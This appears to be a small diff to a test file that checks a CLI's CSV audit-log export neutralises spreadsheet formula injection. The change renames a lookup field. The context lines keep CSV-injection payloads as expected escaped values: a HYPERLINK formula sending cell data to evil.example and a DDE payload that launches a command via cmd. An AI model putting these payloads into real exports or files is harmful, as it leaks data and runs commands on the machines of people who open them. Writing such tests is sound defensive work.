@@ -52,7 +52,7 @@ describe('CSV injection (real binary)', () => {
     }
     const result = await run(['auditlogs', 'fetch', ...range, '--format', 'csv']);
     const rows = parseCsv<Record<string, string>>(result.stdout, { columns: true });
-    const formula = rows.find((row) => row.id === 'formula-1')!;
+    const formula = rows.find((row) => row.eventId === 'formula-1')!;
     expect(formula.actorName).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Click me")`);
     expect(formula.actorId).toBe(`'-1+1`);
     expect(formula.action).toBe(`'+cmd|" /C calc"!A0`);
